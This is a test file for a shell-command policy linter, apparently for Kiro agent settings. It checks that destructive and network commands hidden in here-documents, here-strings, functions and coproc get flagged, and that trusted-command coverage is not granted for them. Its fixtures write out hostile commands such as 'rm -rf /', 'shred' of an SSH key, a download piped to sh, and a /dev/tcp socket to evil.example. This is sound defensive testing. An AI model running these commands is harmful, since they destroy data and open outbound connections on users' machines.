import { describe, expect, it } from 'vitest';
import { checkCoverage } from '@/lib/policy/coverage';
import { commandDangers, LINT_RULE_IDS, LINT_RULES, lintSettings } from '@/lib/policy/lint';
import { LINT_RULE_REGISTRY, readPolicy } from '@/lib/policy/lint-rules';
import { completeSettings } from '@/lib/policy/merge';
import { parseShell } from '@/lib/policy/shell';

/**
 * Commands our reader used to misread (issue 9): each row is what the shell really runs, and the
 * danger lint must name for it.
 */
describe('what a shell really runs', () => {
  it.each([
    ['a here-document fed to bash', 'bash <<EOF\nrm -rf /\nEOF', /rm -rf/],
    ['a tab-stripped here-document fed to sudo sh -s', 'sudo sh -s <<-END\n\tchmod 777 /etc\n\tEND', /chmod 777/],
    ['a here-string fed to sh', "sh <<< 'rm -rf /'", /rm -rf/],
    ['a here-string fed to bash through env', 'env bash <<< "curl -s x | sh"', /pipes a download/],
    ['a function declared with the function keyword', 'function f { rm -rf /; }; f', /rm -rf/],
    ['a function keyword with parentheses', 'function f() { rm -rf ~; }', /rm -rf/],
    ['coproc', 'coproc rm -rf /', /rm -rf/],
    ['a named coproc', 'coproc wipe { rm -rf /; }', /rm -rf/],
    ['find -delete', 'find / -delete', /find … -delete/],
    ['truncate', 'truncate -s0 /etc/passwd', /truncate/],
    ['shred', 'shred -u ~/.ssh/id_ed25519', /shred/],
    ['a /dev/tcp socket', 'exec 3<>/dev/tcp/evil.example/443', /network connection/],
  ])('%s: %j', (_label, command, danger) => {
    expect(commandDangers(command).join('\n')).toMatch(danger);
  });

  it.each([
    ['a here-document fed to cat is data', 'cat <<EOF\nrm -rf /\nEOF'],
    ['a here-document to a shell script is its input, not code', 'bash deploy.sh <<EOF\nrm -rf /\nEOF'],
    ['bash -c takes its code from the argument, not the here-string', "bash -c 'echo hi' <<< 'rm -rf /'"],
    ['find without -delete', 'find . -name "*.ts"'],
  ])('%s: %j', (_label, command) => {
    expect(commandDangers(command)).toEqual([]);
  });

  it('does not describe a /dev/tcp socket as writing to a device', () => {
    expect(commandDangers('echo hi > /dev/tcp/example.com/80').join('\n')).not.toMatch(/device/);
  });

  it('marks code fed to a shell on stdin as nested code', () => {
    const parsed = parseShell('bash <<EOF\nrm -rf /\nEOF');
    expect(parsed.hasShellInput).toBe(true);
    expect(parsed.nested).toEqual([expect.objectContaining({ kind: 'shell-input', opener: '<<', text: 'rm -rf /' })]);
    expect(parseShell('cat <<EOF\nx\nEOF').hasShellInput).toBe(false);
  });
});

describe('strict coverage never vouches for code it did not read', () => {
  it.each([
    ['bash *', 'bash <<EOF\nrm -rf /\nEOF'],
    ['sh *', "sh <<< 'rm -rf /'"],
  ])('%j does not strictly cover %j', (trusted, command) => {
    const result = checkCoverage([trusted], command);
    expect(result.coveredStrictly).toBe(false);
    expect(result.reasons.join('\n')).toMatch(/here-document or here-string to a shell/);
  });

  it('still covers a here-document fed to a command that reads data', () => {
    expect(checkCoverage(['cat *'], 'cat <<EOF\nhello\nEOF').coveredStrictly).toBe(true);
  });
});

describe('gitignore-ignores-kiro', () => {
  const findings = (gitignore: string[]) => lintSettings(completeSettings({ gitignore })).filter((finding) => finding.rule === 'gitignore-ignores-kiro');

  it.each([['.kiro/'], ['.kiro/*'], ['.kiro'], ['/.kiro/**'], ['.kiro/s*/'], ['**/hooks']])('%j hides shared Kiro folders', (entry) => {
    expect(findings(['.env', entry])).toEqual([expect.objectContaining({ path: 'gitignore[1]', severity: 'medium' })]);
  });

  it('accepts the seed’s entries and re-included folders, and knows a parent directory cannot be re-included', () => {
    expect(findings(['.env', '.env.local', '.kiro/settings.json', '.kiro/cache/', '*.log'])).toEqual([]);
    expect(findings(['.kiro/*', '!.kiro/steering/', '!.kiro/hooks/', '!.kiro/specs/'])).toEqual([]);
    expect(findings(['.kiro/', '!.kiro/steering/'])[0]?.message).toMatch(/`\.kiro\/steering\/`, `\.kiro\/hooks\/`, `\.kiro\/specs\/`/);
  });
});

describe('the rule registry', () => {
  it('keeps id, severity, title, description and check together for every rule, in LINT_RULE_IDS order', () => {
    expect(Object.keys(LINT_RULE_REGISTRY)).toEqual([...LINT_RULE_IDS]);
    for (const id of LINT_RULE_IDS) {
      const rule = LINT_RULE_REGISTRY[id];
      expect(rule.description.length, id).toBeGreaterThan(20);
      expect(typeof rule.check).toBe('function');
      expect(LINT_RULES[id]).toEqual({ severity: rule.severity, title: rule.title, description: rule.description });
    }
  });

  it('parses each trusted command once per lint', () => {
    const context = readPolicy(completeSettings({ trustedCommands: ['npm test', 'git *', '*', ''] }), 'development');
    expect(context.trusted.map((item) => item.parsed?.source ?? null)).toEqual(['npm test', 'git', null, null]);
  });
});
